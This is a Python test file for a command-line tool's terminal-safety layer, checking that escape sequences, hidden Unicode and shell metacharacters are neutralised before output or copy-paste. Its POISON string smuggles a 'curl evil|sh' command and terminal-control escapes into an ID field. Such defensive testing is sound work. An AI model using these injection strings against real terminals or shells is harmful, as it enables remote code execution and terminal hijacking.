"""The last gate before a person's terminal."""

import json
import shlex

import pytest
from msgspec import Raw

from bascule.commands.console import Console
from bascule.commands.request_prompt import command_line, elsewhere
from bascule.commands.screen import screened
from bascule.model.events import PermissionRequested
from bascule.policy.visible import has_hidden, json_visible

POISON = "x\x1b]52;c;aGk=\x07\x1b[2J\x9b1m\x7f\u202e\u200b\U000e0041;curl evil|sh #"


@pytest.mark.row("F2", "S59")
def test_only_our_own_colours_pass():
    ours = Console(colour=True).style("bold", "bold") + " é 👩\u200d👧\tx\n"
    assert screened(ours) == ours
    assert screened("a\x1b[5mb\x1b]0;t\x07\r\x9bc\u202e") == (
        "a\\u{1b}[5mb\\u{1b}]0;t\\u{7}\\u{d}\\u{9b}c\\u{202e}"
    )


@pytest.mark.row("F2", "S59")
def test_json_on_a_terminal_means_the_same_and_hides_nothing():
    value = {POISON: [POISON, "é 漢"]}
    text = json_visible(json.dumps(value, ensure_ascii=False))
    assert json.loads(text) == value
    assert not has_hidden(text)
    assert "é 漢" in text


@pytest.mark.row("F2", "S59")
def test_a_command_to_copy_is_one_word_for_each_word_and_visible():
    line = command_line("sessions", "answer", "s1", f"{POISON}\n`id` $(id)")
    assert not has_hidden(line)
    assert "\n" not in line
    assert shlex.split(line)[:4] == ["bascule", "sessions", "answer", "s1"]
    assert len(shlex.split(line)) == 5


@pytest.mark.row("F2", "S59")
def test_an_id_of_an_older_log_can_not_begin_a_second_command():
    asked = PermissionRequested(POISON, "Bash", "t", "execute", Raw(b"{}"), "f" * 64, ())
    said = elsewhere("s1", asked)
    words = shlex.split(said.split("with: ")[1].split("   (or:")[0])
    assert words[4].endswith(";curl evil|sh #")
    assert words[5:] == ["allow", "--sha", "f" * 12]
